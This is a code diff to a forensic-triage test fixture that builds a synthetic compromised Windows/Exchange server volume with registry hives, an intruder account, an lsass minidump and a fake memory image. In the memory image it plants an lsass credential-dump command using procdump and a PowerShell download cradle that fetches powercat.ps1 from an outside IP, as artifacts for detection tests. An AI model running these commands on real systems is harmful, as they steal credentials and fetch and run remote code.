@@ -73,6 +73,7 @@ class VolumeSpec:
     write_software_hive: bool = True
     write_system_hive: bool = True
     event_logs: bool = False  # the attack story (or benign activity) as EVTX, see triage.testing.eventlogs
+    all_hives: bool = False  # also SAM, SECURITY, the administrator's NTUSER.DAT and Amcache.hve
     extra_files: dict[str, bytes] = field(default_factory=dict)
 
 
@@ -102,6 +103,46 @@ def system_hive(spec: VolumeSpec) -> bytes:
     hb.set_value(r"ControlSet001\Control\ComputerName\ComputerName", "ComputerName", spec.hostname)
     hb.set_value(r"ControlSet001\Services\Tcpip\Parameters", "Hostname", spec.hostname.lower())
     return hb.to_bytes()
+
+
+def memory_image_bytes(size: int = 4 << 20) -> bytes:
+    """A raw "memory image" of the compromised server: zeros with what the intrusion left in RAM.
+
+    Not a Windows image (no page tables, no kernel): symbol-free scanning finds the planted strings, and the
+    Volatility plugins report clearly that no Windows kernel is there. One string straddles the 1 MiB
+    boundary so chunked scanning is exercised.
+    """
+    buf = bytearray(size)
+    planted = [
+        (0x10_2000, "C:\\root\\procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp".encode("utf-16-le")),
+        ((1 << 20) - 40, OAB_SHELL.encode()),  # crosses the first 1 MiB boundary
+        (0x28_0000, b"IEX (New-Object System.Net.Webclient).DownloadString('http://103.77.192.219/powercat.ps1')"),
+    ]
+    for offset, data in planted:
+        buf[offset : offset + len(data)] = data
+    return bytes(buf)
+
+
+def more_hives(spec: VolumeSpec) -> dict[str, bytes]:
+    """SAM (with the intruder's 'support' account when compromised), SECURITY, NTUSER.DAT, Amcache.hve."""
+    from triage.testing.hives import STOCK_ACCOUNTS, Account, amcache_hive, ntuser_hive, sam_hive
+    from triage.testing.regf import HiveBuilder
+
+    accounts = list(STOCK_ACCOUNTS)
+    amcache: list[tuple[str, datetime]] = [("c:\\windows\\system32\\inetsrv\\w3wp.exe", T0)]
+    if spec.compromised:
+        accounts.append(Account("support", 1011, created=datetime(2021, 3, 3, 2, 45, tzinfo=UTC),
+                                comment="", last_login=datetime(2021, 3, 3, 2, 46, tzinfo=UTC), logins=1))
+        amcache.append(("c:\\root\\procdump64.exe", datetime(2021, 3, 3, 2, 33, 40, tzinfo=UTC)))
+    security = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SECURITY", timestamp=T0)
+    security.set_value(r"Policy\PolAdtEv", "", bytes(64), "REG_NONE")
+    security.add_key(r"Policy\Secrets")
+    return {
+        "Windows/System32/config/SAM": sam_hive(accounts).to_bytes(),
+        "Windows/System32/config/SECURITY": security.to_bytes(),
+        "Users/Administrator/NTUSER.DAT": ntuser_hive("Administrator").to_bytes(),
+        "Windows/AppCompat/Programs/Amcache.hve": amcache_hive(amcache).to_bytes(),
+    }
 
 
 def httpproxy_log(rows: list[dict[str, str]]) -> bytes:
@@ -181,8 +222,14 @@ def volume_files(spec: VolumeSpec) -> dict[str, bytes]:
     files[f"{ex}/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG"] = b"#Log-type: OAB Generator Log\r\n"
     if spec.compromised:
         files["inetpub/wwwroot/aspnet_client/system_web/Dk2jQ8ab.aspx"] = OAB_SHELL.encode()
-        files["Windows/Temp/lsass.dmp"] = minidump_bytes()
-        files["ProgramData/it.zip"] = zip_bytes({"lsass.dmp": minidump_bytes(1024)})
+        from triage.testing.minidump import minidump
+
+        # what procdump -ma left: a full minidump whose module list names lsass.exe, written 02:33:44
+        lsass = minidump(written=datetime(2021, 3, 3, 2, 33, 44, tzinfo=UTC))
+        files["Windows/Temp/lsass.dmp"] = lsass
+        files["ProgramData/it.zip"] = zip_bytes({"lsass.dmp": lsass})
+    if spec.all_hives:
+        files.update(more_hives(spec))
     if spec.event_logs:
         from triage.testing.eventlogs import event_log_files
 
